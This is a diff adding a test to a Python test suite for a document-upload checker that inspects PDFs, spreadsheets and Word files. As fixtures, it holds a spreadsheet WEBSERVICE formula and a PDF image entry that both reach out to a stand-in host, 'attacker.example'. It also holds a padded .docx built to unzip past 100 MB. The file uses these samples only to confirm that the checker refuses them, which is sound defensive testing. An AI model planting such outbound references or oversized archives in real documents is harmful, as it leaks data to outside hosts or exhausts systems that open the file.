@@ -1063,3 +1063,21 @@ def test_where_a_pdf_opens_is_no_action_and_csv_notes_are_data():
     assert csv_formula_problem(b'a,"- pending | review","- urgent! ask [finance]!","- image of the site"\n') is None
     assert "WEBSERVICE" in _formula_problem('_xlfn.MAP({"https://attacker.example/x"},_xleta.WEBSERVICE)')
     assert _formula_problem("SUM(Register)") is None
+
+
+def test_the_twenty_seventh_rounds_files():
+    """A stream whose data is in another file is refused; a workbook's and a
+    document's links to their own places are honest; white space before a
+    part is read only so far before the part's size is counted."""
+    from resource_library.files import _field_problem, _formula_problem, data_problem, pdf_problem
+    image = (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (\\\\\\\\attacker.example\\\\s\\\\x) "
+             b"/Length 0 >>\nstream\n\nendstream")
+    assert "fetched from another file" in pdf_problem(raw_pdf([*PAGES, image], b"<< /Size 5 /Root 1 0 R >>"))
+    assert _formula_problem('HYPERLINK("#Summary!A1","Go to summary")') is None
+    assert _field_problem(' HYPERLINK "#_Toc1" ', "x") is None
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
+                   'package/2006/content-types"/>')
+        z.writestr("word/pad.xml", b" " * 110_000_000)  # over the 100 MB a document's parts may unzip to
+    assert "too large to check" in data_problem(out.getvalue(), "docx")
